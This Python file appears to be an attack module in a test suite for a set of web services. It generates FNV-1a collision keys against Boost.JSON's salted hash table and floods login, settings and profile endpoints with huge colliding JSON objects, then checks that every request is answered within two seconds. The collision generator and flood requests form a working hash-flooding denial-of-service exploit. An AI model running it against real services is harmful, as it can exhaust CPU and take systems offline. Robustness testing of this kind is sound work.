#!/usr/bin/env python3
"""JSON bodies whose keys all fall into one bucket of the parser's hash table.

Boost.JSON hashes keys with FNV-1a, salted with the address of the object's table. For keys of equal length the difference of
two hashes depends on the lowest byte of the salt alone, because each step changes the hash by (low byte xor character) and
multiplies it. A large table begins 0x30 bytes into a page (the headers of malloc and of the arena), every other one at
some multiple of 16, so colliding keys can be prepared: inserting n of them costs n * n / 2 comparisons. RFC 8259
section 9 lets a parser bound what it accepts.

The attacker sends, through the gateway and to the services' own ports: one object of 65,536 keys as login (720 KB) and as
settings (with an account), a dozen of them as a profile (with a picture a body may have 10 MiB), and thousands of objects of 512
keys, which a bound on the members of one object alone does not stop.

Must hold: such bodies cost no more than others of their size. Nobody waits, every flood is answered within two seconds, and
processor time is bounded.
"""

import itertools
import sys

from lib.attack import Attack, main
from lib.person import PREFIX
from lib.swarm import Plan

OFFSET_BASIS, PRIME = 0xCBF29CE484222325, 0x100000001B3  # FNV-1a, 64 bits
ALPHABET = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
LOW_BYTES = [0x30, *(byte for byte in range(0, 256, 16) if byte != 0x30)]
REACTION_SECONDS_MAX = 2.0


def colliding_keys(low_byte, bits):
    """2**bits keys of equal length whose hashes agree in their lowest `bits` bits when the salt ends in `low_byte`.

    Met in the middle: states after every first half, and states before every second half that lead to hash 0.
    """
    count = modulus = 1 << bits
    half = 3 if bits > 12 else 2
    letters = next(ALPHABET[:size] for size in range(2, len(ALPHABET) + 1) if size ** (2 * half) >= 1.2 * modulus * count)
    inverse = pow(PRIME, -1, modulus)
    first_halves = {}
    for text in itertools.product(letters, repeat=half):
        state = OFFSET_BASIS + low_byte
        for character in text:
            state = (state ^ character) * PRIME % modulus
        first_halves.setdefault(state, []).append(bytes(text))
    keys = []
    for text in itertools.product(letters, repeat=half):
        state = 0
        for character in reversed(text):
            state = (state * inverse % modulus) ^ character
        keys += [first + bytes(text) for first in first_halves.get(state, ())]
    return keys[:count]


def colliding_object(low_byte, bits):
    return b"{" + b",".join(b'"' + key + b'":0' for key in colliding_keys(low_byte, bits)) + b"}"


def array_of(objects, bytes_max):
    """An object with one field that holds as many of the objects, in turn, as fit."""
    parts, size = [], 20
    for part in itertools.cycle(objects):
        size += len(part) + 1
        if size > bytes_max:
            return b'{"travel":[' + b",".join(parts) + b"]}"
        parts.append(part)


def request(method, path, body, token=""):
    bearer = f"Authorization: Bearer {token}\r\n" if token else ""
    head = (f"{method} {PREFIX}{path} HTTP/1.1\r\nHost: a\r\n{bearer}Connection: close\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n")
    return head.encode() + body


def logins(is_full):
    """What needs no account. The first tables lie where the largest blocks lie; where later ones do depends on what was freed
    before."""
    large = [colliding_object(byte, 16) for byte in (LOW_BYTES if is_full else LOW_BYTES[:3])]
    return [request("POST", "/auth/login", one) for one in (large[0], large[0], *large)]


class HashFlood(Attack):
    name = "hash flood"
    cpu_share_max = 0.6

    def prepare(self, scene):
        attacker = scene.attacker()
        large = [colliding_object(byte, 16) for byte in (LOW_BYTES if scene.is_full else LOW_BYTES[:3])]
        small = [colliding_object(byte, 9) for byte in LOW_BYTES]
        tiny_login = request("POST", "/auth/login", array_of(small, 16_000))
        settings = request("PUT", "/users/settings", large[0], attacker.token)
        profiles = [request("PUT", "/users/profile", array_of(objects, 10_000_000), attacker.token)
                    for objects in (large, small)]
        self._plans = [Plan(port, login) for port in scene.ports_of("gateway", "auth-service")
                       for login in logins(scene.is_full)]
        self._plans += [Plan(scene.port(), one) for one in (settings, tiny_login, *profiles)]
        self._plans += [Plan(port, one) for port in scene.ports_of("user-service") for one in (settings, *profiles)]

    def run(self, scene):
        tally = scene.with_swarm(self._plans, reopens_per_second=4)
        return {"words": tally.words(), "silent": tally.silent, "slowest": max(tally.reaction_seconds, default=0.0)}

    def check(self, found, scene):
        slowest = f"{found['silent']} without an answer, the slowest after {found['slowest']:.1f} s"
        return [("floods answered soon", not found["silent"] and found["slowest"] <= REACTION_SECONDS_MAX, slowest)]


if __name__ == "__main__":
    sys.exit(main(HashFlood(), __doc__))
